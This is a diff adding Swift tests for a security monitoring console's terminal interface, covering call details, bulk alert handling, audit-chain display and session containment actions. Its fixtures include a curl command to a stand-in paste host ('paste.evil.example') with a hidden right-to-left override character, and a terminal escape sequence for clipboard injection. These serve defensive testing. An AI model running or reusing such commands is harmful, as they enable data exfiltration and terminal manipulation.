@@ -56,6 +56,80 @@ struct ModelTests {
         #expect(m.state.modal == nil)
     }
 
+    @Test("a timeline's calls are links: j/k move the cursor over them, enter opens the call, esc comes back to the timeline")
+    func callDetail() {
+        var m = model(.sessions)
+        _ = m.handle(.down)
+        #expect(m.handle(.enter) == [.loadSession("s-2")])
+        #expect(m.detailLinks.count == 5)
+        for _ in 0..<4 { _ = m.handle(.down) }
+        #expect(m.handle(.enter) == [])
+        #expect(m.state.detail == .call(session: "s-2", request: "6"))
+        #expect(m.handle(.escape) == [.loadSession("s-2")])
+        #expect(m.state.detail == .session("s-2") && m.state.detailCursor == 4)
+        _ = m.handle(.escape)
+        #expect(m.state.detail == nil)
+    }
+
+    @Test("m marks alerts; x acknowledges every marked one, f closes them all as false positives after one reason and one confirmation")
+    func bulk() {
+        var m = model(.alerts)
+        _ = m.handle(.char("m"))
+        _ = m.handle(.char("m"))
+        #expect(m.state.marked == ["a-1", "a-2"])
+        let frame = ConsoleRenderer(utcOffset: 0).render(&m, size: TerminalSize(rows: 24, cols: 80), now: Fixtures.now)
+        #expect(frame.text.contains("●"))
+        _ = m.handle(.char("f"))
+        for c in "scanner" { _ = m.handle(.char(c)) }
+        #expect(m.handle(.enter) == [])
+        #expect(m.handle(.char("y")) == [.performAll([.falsePositive(id: "a-1", reason: "scanner"), .falsePositive(id: "a-2", reason: "scanner")])])
+        #expect(m.state.marked.isEmpty)
+        _ = m.handle(.char("M"))
+        #expect(m.handle(.char("x")) == [.performAll([.acknowledgeAlert(id: "a-1"), .acknowledgeAlert(id: "a-2")])])
+    }
+
+    @Test("the call's detail says what it carried, who decided, what it cost and what was found")
+    func callDetailContent() {
+        var m = model(.sessions)
+        m.state.detail = .call(session: "s-2", request: "7")
+        let text = ConsoleRenderer(utcOffset: 0).render(&m, size: TerminalSize(rows: 50, cols: 200), now: Fixtures.now).text
+        for expected in ["decision:      approved", "grant:         g-2", "decided by:    alice (uid 1000)", "latency:       1.2 s", "result size:   47.1 KB",
+                         "destinations:  paste.evil.example", "curl https://paste.evil.example/<U+202E>x", "dlp.finding"] {
+            #expect(text.contains(expected), "missing \(expected)")
+        }
+    }
+
+    @Test("an audit record's detail shows its details (the reason of a denial), its hashes and whether the chain covers it")
+    func auditDetail() {
+        var m = model(.audit)
+        #expect(m.handle(.enter) == [])
+        #expect(m.state.detail == .audit(30))
+        let text = ConsoleRenderer(utcOffset: 0).render(&m, size: TerminalSize(rows: 24, cols: 80), now: Fixtures.now).text
+        #expect(text.contains("reason:        looks like exfiltration ␛]52;c;cHduZWQ=␇"))
+        #expect(text.contains("verified: the chain is intact through record 30"))
+        #expect(m.handle(.escape) == [] && m.state.detail == nil)
+        #expect(m.handle(.char("V")) == [.verifyAudit])
+    }
+
+    @Test("K, R and X on a session ask for a reason and a confirmation and become response actions; an ended session cannot be terminated")
+    func containment() {
+        var m = model(.sessions)
+        for (key, action) in [("K", ConsoleAction.respond(.terminateSession, args: ["s-1"], reason: "exfil")),
+                              ("R", .respond(.revokeGrants, args: ["session", "s-1"], reason: "exfil")),
+                              ("X", .respond(.blockServer, args: ["git"], reason: "exfil"))] {
+            _ = m.handle(.char(Character(key)))
+            for c in "exfil" { _ = m.handle(.char(c)) }
+            #expect(m.handle(.enter) == [])
+            guard case .confirm(let title, action)? = m.state.modal else { Issue.record("\(key): no confirmation"); continue }
+            #expect(title.contains("?"))
+            #expect(m.handle(.char("y")) == [.perform(action)])
+        }
+        #expect(ConsoleAction.respond(.blockServer, args: ["evil name"], reason: "y").cli == "warden respond block-server 'evil name' --reason …")
+        _ = m.handle(.end)
+        _ = m.handle(.char("K"))
+        #expect(m.state.modal == nil && m.state.message?.contains("already ended") == true)
+    }
+
     @Test("denying needs a reason and a confirmation; esc cancels without acting")
     func deny() {
         var m = model(.grants)
@@ -255,6 +329,7 @@ struct ModelTests {
         _ = m.handle(.escape)
         m.state.view = .tools
         #expect(m.handle(.enter) == [.loadTool("evil/add")])
+        _ = m.handle(.escape)
         m.state.view = .grants
         #expect(m.handle(.enter) == [.loadGrant("g-1")])
     }
